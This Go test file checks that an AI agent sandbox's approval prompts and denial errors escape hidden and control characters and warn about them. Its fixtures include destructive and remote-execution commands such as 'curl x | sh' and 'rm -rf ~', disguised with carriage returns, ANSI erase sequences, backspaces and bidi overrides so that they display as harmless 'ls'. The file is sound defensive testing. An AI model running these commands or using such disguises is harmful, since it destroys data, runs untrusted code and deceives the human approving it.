package approval

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/agentbox/sandbox/providers"
)

// disguised are requests whose text would show something else on a
// terminal than what they do, and how every approval surface must show
// them instead.
var disguised = []struct {
	name    string
	req     Request
	escaped string // the target as shown
	hidden  string // in the warning line
}{
	{"carriage return", Request{Kind: KindExec, Target: "touch /workspace/PWN; curl x | sh # \rls -la /workspace"},
		`touch /workspace/PWN; curl x | sh # \rls -la /workspace`, `\r (carriage return)`},
	{"erase line", Request{Kind: KindExec, Target: "curl x | sh\x1b[2K\x1b[1Gls"},
		`curl x | sh\x1b[2K\x1b[1Gls`, `\x1b (escape)`},
	{"backspaces", Request{Kind: KindExec, Target: "rm -rf ~ #\b\b\b\b\b\b\b\b\bls     "},
		`rm -rf ~ #\b\b\b\b\b\b\b\b\bls     `, `\b (backspace)`},
	{"bidi override", Request{Kind: KindExec, Target: "sh -c 'rm -rf ~' # \u202e'sl' hc-"},
		`sh -c 'rm -rf ~' # \u202e'sl' hc-`, `\u202e (right-to-left override)`},
	{"bidi isolate", Request{Kind: KindExec, Target: "echo \u2067ok\u2069 && curl x|sh"},
		`echo \u2067ok\u2069 && curl x|sh`, `\u2067 (right-to-left isolate)`},
	{"zero-width", Request{Kind: KindExec, Target: "r\u200bm -rf /tmp/x"},
		`r\u200bm -rf /tmp/x`, `\u200b (zero-width space)`},
	{"tag characters", Request{Kind: KindExec, Target: "echo hi\U000e0069\U000e0067"},
		`echo hi\U000e0069\U000e0067`, `\U000e0069 (tag character)`},
	{"path with a title escape", Request{Kind: KindWrite, Target: "/workspace/\x1b]0;title\a"},
		`/workspace/\x1b]0;title\a`, `\a (bell)`},
	{"hidden in the diff only", Request{Kind: KindWrite, Target: "/workspace/a", Details: Details{Diff: "+ok\u202e\n"}},
		`/workspace/a`, `\u202e (right-to-left override)`},
}

// rawControls are characters no surface may print as they are.
const rawControls = "\r\x1b\b\a\u202e\u2067\u200b\U000e0069"

func TestPromptShowsRequestsEscaped(t *testing.T) {
	t.Parallel()
	for _, tt := range disguised {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			d, err := NewPrompt(strings.NewReader("n\n"), &out).Approve(context.Background(), tt.req)
			if err != nil || d.Allow {
				t.Fatalf("Approve = %+v, %v", d, err)
			}
			s := out.String()
			if strings.ContainsAny(s, rawControls) {
				t.Fatalf("the prompt prints a control or hidden character:\n%q", s)
			}
			if !strings.Contains(s, ": "+tt.escaped+"\n") {
				t.Errorf("the prompt lacks the escaped target %q:\n%s", tt.escaped, s)
			}
			if !strings.Contains(s, "WARNING: hidden characters: ") || !strings.Contains(s, tt.hidden) {
				t.Errorf("the prompt lacks the warning naming %q:\n%s", tt.hidden, s)
			}
		})
	}
}

func TestPromptNoWarningForPlainRequests(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	req := Request{Kind: KindExec, Target: "printf 'a\\tb' |\tsort\nls"}
	NewPrompt(strings.NewReader("n\n"), &out).Approve(context.Background(), req)
	if strings.Contains(out.String(), "hidden characters") {
		t.Fatalf("tab and newline raised a warning:\n%s", out.String())
	}
	if !strings.Contains(out.String(), `command: printf 'a\tb' |\tsort\nls`+"\n") {
		t.Fatalf("tab and newline not shown escaped:\n%s", out.String())
	}
}

func TestHiddenWarningCoversEveryText(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		req  Request
		want bool
	}{
		{"plain", Request{Kind: KindExec, Target: "ls", Details: Details{Cwd: "/w"}}, false},
		{"cwd", Request{Kind: KindExec, Target: "ls", Details: Details{Cwd: "/w\r"}}, true},
		{"argv", Request{Kind: KindExec, Target: "x", Argv: []string{"x", "\u200b"}}, true},
		{"dest", Request{Kind: KindWrite, Target: "/a", Details: Details{Dest: "/b\u202e"}}, true},
		{"from", Request{Kind: KindUpload, Target: "/a", Details: Details{From: "./\x1b[2K"}}, true},
		{"pattern", Request{Kind: KindList, Target: "/a", Details: Details{Pattern: "\u2066*"}}, true},
		{"file", Request{Kind: KindUpload, Target: "/a", Details: Details{Files: []FileEntry{{Path: "x\by"}}}}, true},
		{"sandbox", Request{Kind: KindExec, Target: "ls", Sandbox: "sb\u200d"}, true},
	}
	for _, tt := range tests {
		if got := HiddenWarning(tt.req) != ""; got != tt.want {
			t.Errorf("%s: warning %v, want %v", tt.name, got, tt.want)
		}
	}
}

func TestDeniedErrorEscaped(t *testing.T) {
	t.Parallel()
	g := NewGate(newFake(), GateOptions{})
	for _, tt := range disguised {
		if tt.req.Kind != KindExec {
			continue
		}
		_, err := g.Exec(WithSource(context.Background(), SourceAgent), "sb", providers.ExecRequest{Shell: tt.req.Target})
		if !IsDenied(err) {
			t.Fatalf("%s: error = %v", tt.name, err)
		}
		if msg := err.Error(); strings.ContainsAny(msg, rawControls) {
			t.Errorf("%s: the denial prints a control or hidden character: %q", tt.name, msg)
		}
	}
}
